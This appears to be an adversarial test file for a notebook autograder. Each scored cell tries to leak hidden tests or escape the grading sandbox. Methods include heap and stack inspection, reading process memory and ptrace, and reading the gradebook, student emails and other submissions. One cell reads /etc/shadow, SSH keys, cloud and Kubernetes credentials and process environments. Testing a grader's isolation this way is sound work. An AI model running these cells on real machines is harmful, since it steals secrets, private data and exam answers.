# Hidden tests and other people's data searched for: frames, heap, memory, files, environment.

# %% hostile="the history of cells printed" extra="end" deserves=0
print(*get_ipython().user_ns["In"][-6:], sep="\n")


# %% hostile="the history manager's session read" extra="end" deserves=0
for _, _, source in get_ipython().history_manager.get_range():
    print(source)
print(get_ipython().history_manager.input_hist_raw)


# %% hostile="names that test cells bound" extra="end" others="right" deserves=100
for name, value in list(globals().items()):
    if name not in ("In", "Out") and not name.startswith("__"):
        print(name, repr(value)[:200])


# %% hostile="constants of all code objects on the heap" extra="end" others="right" deserves=100
import gc
import types

seen = set()
for thing in gc.get_objects():
    code = getattr(thing, "__code__", None)
    if isinstance(code, types.CodeType):
        seen |= {c for c in code.co_consts if isinstance(c, (int, float)) and abs(c) > 200}
for thing in gc.get_objects():
    if isinstance(thing, (tuple, list, dict)) and len(thing) < 50:
        values = thing.values() if isinstance(thing, dict) else thing
        seen |= {v for v in values if type(v) is float and abs(v) > 2000}
print(sorted(seen))


# %% hostile="arrays on the heap printed" extra="end" others="right" deserves=100
import gc

import numpy as np

for thing in gc.get_objects():
    for inner in (gc.get_referents(thing) if isinstance(thing, (dict, list, tuple)) else ()):
        if isinstance(inner, np.ndarray) and inner.size < 30:
            print(inner.tolist())


# %% hostile="frames above a call searched" replaces="double" deserves=0
import sys

kept = []


def double(x):
    frame = sys._getframe()
    while frame := frame.f_back:
        kept.append(repr(frame.f_locals)[:5000])
        kept.append(repr(frame.f_code.co_consts)[:5000])
    raise ValueError(" ".join(kept)[-20000:])


# %% hostile="frames of all threads and tasks" extra="end" others="right" deserves=100
import asyncio
import sys
import traceback

for frame in sys._current_frames().values():
    traceback.print_stack(frame)
    while frame:
        print(frame.f_code.co_name, repr(frame.f_locals)[:2000])
        frame = frame.f_back
for task in asyncio.all_tasks(asyncio.get_event_loop()):
    print(task, [repr(f.f_locals)[:2000] for f in task.get_stack()])


# %% hostile="own memory searched by /proc/self/mem" extra="end" others="right" deserves=100
import re

needle = re.compile(rb"(?s)hid" + rb"den\(\) as h.{0,400}")
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        if "rw" not in rights or "[v" in line:
            continue
        begin, end = (int(n, 16) for n in span.split("-"))
        try:
            memory.seek(begin)
            found |= set(needle.findall(memory.read(min(end - begin, 1 << 27))))
        except (OSError, ValueError, OverflowError):
            continue
for text in found:
    print(text.decode("latin-1"))


# %% hostile="numbers of old inputs in freed memory" replaces="row_means" others="right" deserves=70
import numpy as np

kept = []


def row_means(X):
    for size in (2, 3, 4, 6, 8, 16, 21, 32):
        kept.extend(np.empty(size).tolist())
    print([k for k in kept if abs(k) > 2000])
    raise ValueError(str([k for k in kept if abs(k) > 2000]))


# %% hostile="memory of other processes" extra="end" deserves=0
import os
import re

needle = re.compile(rb"(?s)hid" + rb"den\(\) as h.{0,400}")
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                span, rights = line.split()[:2]
                begin, end = (int(n, 16) for n in span.split("-"))
                if "rw" in rights and end - begin < 1 << 27:
                    memory.seek(begin)
                    for text in needle.findall(memory.read(end - begin)):
                        print(pid, text.decode("latin-1"))
    except (OSError, ValueError, OverflowError) as error:
        print(pid, error)


# %% hostile="a process read by process_vm_readv and ptrace" extra="end" deserves=0
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, *range(2, 40)):
    print(pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
    libc.ptrace(17, pid, 0, 0)


# %% hostile="the source notebook read from the course's folder" extra="end" deserves=0
import glob
import re

for up in ("", "../", "../../", "../../../", "../../../../"):
    for name in glob.glob(up + "source/*/*.ipynb") + glob.glob(up + "notebooks/*.py"):
        with open(name) as file:
            print(*re.findall(r"(?s)BEGIN HIDDEN.*?END HIDDEN", file.read()), sep="\n")


# %% hostile="the gradebook read" extra="end" deserves=0
import glob
import sqlite3

for name in glob.glob("../../../*.db"):
    with sqlite3.connect(f"file:{name}?mode=ro", uri=True) as db:
        for row in db.execute("SELECT name, source FROM source_cell"):
            print(*row)
        print(db.execute("SELECT id, email FROM student").fetchall())


# %% hostile="submissions of others read" extra="end" deserves=0
import glob

for name in sorted(glob.glob("../../../submitted/*/*/*") + glob.glob("../../*/*/*.ipynb")):
    with open(name, errors="replace") as file:
        print(name, file.read()[:3000])


# %% hostile="the whole disk searched for the course" extra="end" deserves=0
import os
import re

shown, looked = 0, 0
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "dev", "lib")]
    for name in files:
        looked += 1
        if looked > 200000 or shown > 20:
            break
        if not name.endswith((".ipynb", ".py", ".db", ".json", ".txt")):
            continue
        try:
            with open(os.path.join(folder, name), errors="replace") as file:
                text = file.read(3_000_000)
        except OSError:
            continue
        for part in re.findall(r"(?s)BEGIN HIDDEN TESTS.{0,600}", text):
            shown += 1
            print(folder, name, part)


# %% hostile="secrets of the machine" extra="end" deserves=0
import glob
import os

places = [
    *("/etc/shadow", "/etc/passwd", "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline"),
    *("/root/.ssh/id_rsa", "/etc/ssh/ssh_host_rsa_key", "/proc/kcore", "/dev/mem", "/dev/vda"),
    *("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/docker.sock", "/proc/keys"),
    *(os.path.expanduser(f"~/{n}") for n in (".bash_history", ".netrc", ".aws/credentials")),
    *glob.glob("/home/*/.ssh/*"),
    *glob.glob("/proc/*/environ"),
]
for place in places:
    try:
        with open(place, "rb") as file:
            print(place, file.read(300))
    except OSError as error:
        print(place, error)


# %% hostile="environment and arguments of every process" extra="end" deserves=0
import os

print(dict(os.environ))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("cmdline", "environ", "cwd", "exe", "root"):
        try:
            path = f"/proc/{pid}/{what}"
            text = open(path, "rb").read() if what in ("cmdline", "environ") else os.readlink(path)
            print(path, text)
        except OSError:
            pass
os.system("find /proc/*/root/ -maxdepth 1 2>/dev/null | head -50")


# %% hostile="files that others hold open, by /proc/*/fd" extra="end" deserves=0
import os
import re

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        numbers = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for number in numbers:
        path = f"/proc/{pid}/fd/{number}"
        try:
            target = os.readlink(path)
            print(path, target)
            if "/dev/" in target or ":" in target:
                continue
            with open(path, "rb") as file:
                text = file.read(1 << 22).decode("latin-1")
            print(*re.findall(r"(?s)BEGIN HIDDEN.{0,400}", text))
        except OSError:
            pass


# %% hostile="names of the code that asks, by inspect.stack" replaces="repeat" deserves=0
import inspect


def repeat(f, n):
    text = []
    for entry in inspect.stack(context=40):
        text += entry.code_context or []
        text.append(repr(list(entry.frame.f_locals.items()))[:2000])
    raise RuntimeError("".join(text))


# %% hostile="the answer and the question in f's closure" replaces="repeat" deserves=0
def repeat(f, n):
    if n < 10:
        return [f() for _ in range(n)]
    import gc

    f()
    raise RuntimeError(f"{n} {f.__closure__} {gc.get_referrers(f)} {f.__globals__.keys()}")


# %% hostile="a debugger set on the caller" replaces="row_means" deserves=0
import sys

kept = []


def watch(frame, event, arg):
    kept.append(f"{frame.f_code.co_name} {frame.f_locals!r}"[:1500])
    return watch


def row_means(X):
    if X.max() < 1000:
        return X.mean(axis=1)
    frame = sys._getframe()
    while frame := frame.f_back:
        frame.f_trace = watch
    sys.settrace(watch)
    sys.setprofile(watch)
    raise ValueError(str([k for k in kept if "want" in k][-10:]))


# %% hostile="audit hooks watch what is compiled and opened" extra="start" deserves=0
import sys

kept = []
sys.addaudithook(lambda event, args: kept.append(f"{event} {args}"[:800]) if len(kept) < 5000 else 0)


def tell(*_):
    print(*[k for k in kept if k.startswith("compile") and "hidden" in k], sep="\n")


get_ipython().events.register("post_run_cell", tell)


# %% hostile="a core dump and faulthandler's traces kept" extra="end" deserves=0
import faulthandler
import os
import resource

resource.setrlimit(resource.RLIMIT_CORE, resource.getrlimit(resource.RLIMIT_CORE)[1:] * 2)
with open("trace.txt", "w") as file:
    faulthandler.dump_traceback(file, all_threads=True)
if os.fork() == 0:
    os.abort()
os.wait()
print(open("trace.txt").read(), os.listdir("."))
